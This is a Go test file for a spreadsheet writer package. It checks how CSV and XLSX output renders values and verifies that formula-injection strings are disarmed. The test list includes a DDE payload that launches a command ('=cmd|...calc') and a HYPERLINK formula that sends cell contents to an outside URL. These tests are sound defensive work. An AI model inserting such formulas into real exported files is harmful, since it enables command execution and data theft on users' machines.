package sheet

import (
	"bytes"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

type (
	metres float64
	status string
)

func (s status) String() string { return "is " + string(s) }

// written is what a writer makes of the rows.
func written(t interface{ Fatal(...any) }, make func(out *bytes.Buffer) (Writer, error), rows ...[]any) string {
	var out bytes.Buffer
	w, err := make(&out)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func toCSV(out *bytes.Buffer) (Writer, error)      { return CSV(out), nil }
func toExcelCSV(out *bytes.Buffer) (Writer, error) { return ExcelCSV(out) }
func toXLSX(out *bytes.Buffer) (Writer, error)     { return XLSX(out, "Sheet") }

func sampleRow() []any {
	shanghai := time.FixedZone("", 8*3600)
	seven := 7
	return []any{
		"text", -5, 31.25, metres(-12.5), true, nil, (*int)(nil), &seven, math.NaN(), status("open"),
		time.Date(2026, 3, 1, 9, 30, 0, 0, shanghai), int64(310101123456789012),
	}
}

func TestCSVWritesEveryKind(t *testing.T) {
	t.Parallel()
	got := written(t, toCSV, sampleRow())
	want := "text,-5,31.25,-12.5,true,,,7,,is open,2026-03-01T09:30:00+08:00,310101123456789012\n"
	if got != want {
		t.Errorf("got  %swant %s", got, want)
	}
	if marked := written(t, toExcelCSV, sampleRow()); marked != "\xEF\xBB\xBF"+want {
		t.Errorf("with mark: %q", marked)
	}
}

func TestXLSXWritesEveryKind(t *testing.T) {
	t.Parallel()
	file := written(t, toXLSX, sampleRow())
	book, err := excelize.OpenReader(strings.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	for cell, want := range map[string]struct {
		shown string
		kind  excelize.CellType
	}{
		"A1": {"text", excelize.CellTypeInlineString},
		"B1": {"-5", excelize.CellTypeUnset}, // a number, in a workbook's own words
		"D1": {"-12.5", excelize.CellTypeUnset},
		"E1": {"TRUE", excelize.CellTypeBool},
		"H1": {"7", excelize.CellTypeUnset},
		"I1": {"", excelize.CellTypeUnset},
		"K1": {"2026-03-01 09:30:00", excelize.CellTypeUnset},
		"L1": {"310101123456789012", excelize.CellTypeInlineString},
	} {
		shown, _ := book.GetCellValue("Sheet", cell)
		kind, _ := book.GetCellType("Sheet", cell)
		if shown != want.shown || kind != want.kind {
			t.Errorf("%s: %q of type %d, want %q of type %d", cell, shown, kind, want.shown, want.kind)
		}
	}
}

var formulas = []string{
	"=1+1", "+86 21", "-5 Grill", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
	"'=1", "''=1", `=HYPERLINK("http://example.org/?"&A1,"x")`, "=cmd|' /C calc'!A0",
}

func TestCSVDisarmsFormulas(t *testing.T) {
	t.Parallel()
	for _, formula := range formulas {
		file := written(t, toCSV, []any{"name", "n"}, []any{formula, -5})
		record := strings.TrimPrefix(strings.TrimPrefix(file, "name,n\n"), `"`)
		if !strings.HasPrefix(record, "'") || !strings.HasSuffix(record, ",-5\n") {
			t.Errorf("%q was written as %q", formula, record)
		}
		got := read(t, file).Rows[0].Cells[0]
		if want := strings.ReplaceAll(formula, "\r", "\n"); got != want {
			t.Errorf("%q came back as %q", want, got)
		}
	}
}

func TestXLSXTextIsNeverAFormula(t *testing.T) {
	t.Parallel()
	for _, formula := range formulas {
		file := written(t, toXLSX, []any{"name"}, []any{formula})
		book, err := excelize.OpenReader(strings.NewReader(file))
		if err != nil {
			t.Fatal(err)
		}
		if held, _ := book.GetCellFormula("Sheet", "A2"); held != "" {
			t.Errorf("%q became the formula %q", formula, held)
		}
		if got := read(t, file).Rows[0].Cells[0]; got != strings.ReplaceAll(formula, "\r", "\n") && got != formula {
			t.Errorf("%q came back as %q", formula, got)
		}
	}
}

// Whatever text is written comes back from either format, line breaks as LF.
func TestTextComesBack(t *testing.T) {
	t.Parallel()
	text := rapid.StringOfN(rapid.SampledFrom([]rune("a=+-@'\"\n,; 零，＝\t")), 1, 12, -1)
	rapid.Check(t, func(t *rapid.T) {
		cells := []any{"x", text.Draw(t, "left"), text.Draw(t, "right")}
		csv := written(t, toCSV, []any{"a", "b", "c"}, cells)
		table, err := Read(strings.NewReader(csv), "")
		if err != nil {
			t.Fatal(err)
		}
		want := []string{"x", cells[1].(string), cells[2].(string)}
		if diff := cmp.Diff(want, table.Rows[0].Cells); diff != "" {
			t.Fatalf("%q: %s", csv, diff)
		}
	})
}

func TestRowRefusesWhatIsNoCell(t *testing.T) {
	t.Parallel()
	for _, cell := range []any{[]int{1}, struct{}{}, strings.Repeat("x", maxExcelText+1), uint64(math.MaxUint64)} {
		if err := CSV(&bytes.Buffer{}).Row(cell); err == nil {
			t.Errorf("%T was written", cell)
		}
	}
}
